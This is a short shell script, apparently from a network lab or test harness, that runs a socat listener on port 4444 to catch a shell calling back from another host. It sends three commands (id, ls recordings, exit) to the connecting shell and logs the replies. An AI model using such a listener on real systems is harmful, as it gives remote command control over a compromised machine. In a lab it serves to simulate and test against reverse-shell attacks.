#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Who waits outside for a shell that calls back, and types three commands.
# lab: on=out side=far ready=tcp:4444
mkdir -p "$LAB/outside/shell"
# shellcheck disable=SC2016 # for the shell that socat starts
exec socat TCP4-LISTEN:4444,bind=198.51.100.66,fork,reuseaddr \
	SYSTEM:'echo id; echo ls recordings; echo exit; exec cat >"$LAB/outside/shell/$SOCAT_PEERPORT"'
